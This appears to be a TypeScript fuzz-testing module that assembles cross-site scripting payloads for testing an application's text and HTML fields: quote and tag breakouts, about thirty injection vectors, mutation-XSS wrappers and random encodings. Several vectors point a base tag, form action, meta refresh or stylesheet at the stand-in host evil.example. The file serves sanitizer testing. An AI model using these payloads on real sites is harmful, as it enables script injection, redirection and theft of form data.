import { oneOf } from '../fuzz/generate.ts'
import { htmlCorpus } from '../html-corpus.ts'
import { htmlPayloads } from '../html-payloads.ts'

// Short enough for a name. Their prefixes close any context that a careless page writes them into.
const breakouts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '-->',
  ']]>',
  '\\"',
  '\\u003c',
  '&quot;&gt;',
  '}}',
  '\u202e',
  '\u200f">',
  'نص ',
] as const

const vectors = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert`1`>',
  '<b onmouseover=alert(1)>x</b>',
  '<a href=javascript:alert(1)>x</a>',
  '<iframe srcdoc="<b onload=alert(1)>">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<math><mi xlink:href=javascript:alert(1)>',
  '<style onload=alert(1)></style>',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>',
  '<meta http-equiv=refresh content="0;//evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<object data=javascript:alert(1)>',
  '<xmp><img src=x onerror=alert(1)>',
  ' onfocus=alert(1) autofocus x=',
  ' style=background:url(//evil.example) ',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  ';alert(1)//',
  '$' + '{alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '=HYPERLINK("//evil.example";alert)',
  '<video src=x onerror=alert(1)>',
  '<!--<script>alert(1)//',
  '%3Cscript%3Ealert(1)%3C/script%3E',
] as const

/** For every text field, however short. */
export const shortPayloads: readonly string[] = breakouts.flatMap((breakout) => vectors.map((vector) => breakout + vector))

/** For fields that take long texts and HTML. */
export const longPayloads: readonly string[] = [...new Set([...htmlCorpus.map(({ html }) => html), ...shortPayloads])]

const wraps: readonly ((html: string) => string)[] = [
  (html) => `<p dir="rtl">${html}</p>`,
  (html) => `<svg><desc>${html}</desc></svg>`,
  (html) => `<math><mtext><table><mglyph><style>${html}</style>`,
  (html) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="${html}">`,
  (html) => `<noscript><p title="${html}">`,
  (html) => `<a href="${html}">x</a>`,
  (html) => `<!--${html}-->`,
  (html) => `<p style="text-align:center;${html}">x</p>`,
  (html) => `<ul><li><ol start="${html}"><li>${html}`,
  (html) => `${'<blockquote>'.repeat(40)}${html}`,
  (html) => `<template>${html}</template>`,
  (html) => `<select><option>${html}</select>`,
]

/** Payloads cut, joined, hidden and written otherwise, by chance. */
export function mutations(random: () => number, count: number): string[] {
  const at = (text: string) => Math.floor(random() * (text.length + 1))
  const changes: readonly ((html: string) => string)[] = [
    (html) => html.slice(0, at(html)),
    (html) => html.slice(at(html)),
    (html) => html + oneOf(random, htmlPayloads),
    (html) => {
      const cut = at(html)
      return html.slice(0, cut) + oneOf(random, htmlPayloads) + html.slice(cut)
    },
    (html) => {
      const cut = at(html)
      return (
        html.slice(0, cut) +
        oneOf(random, ['\u0000', '\t', '\n', '\u0001', '/', '<', '>', '"', "'", '`', '=', '&', '\u00ad', '\u202e', '--', '&#']) +
        html.slice(cut)
      )
    },
    (html) => [...html].map((letter) => (random() < 0.5 ? letter.toUpperCase() : letter)).join(''),
    (html) => [...html].map((letter) => (random() < 0.2 ? `&#${letter.codePointAt(0)}${random() < 0.7 ? ';' : ''}` : letter)).join(''),
    (html) => html.replaceAll(' ', () => oneOf(random, ['/', '\n', '\f', '\t', ' '])),
    (html) => oneOf(random, wraps)(html),
  ]
  return Array.from({ length: count }, () => {
    let html = oneOf(random, longPayloads)
    for (let n = 0; n < 1 + Math.floor(random() * 4); n++) html = oneOf(random, changes)(html)
    return html.slice(0, 20_000)
  })
}
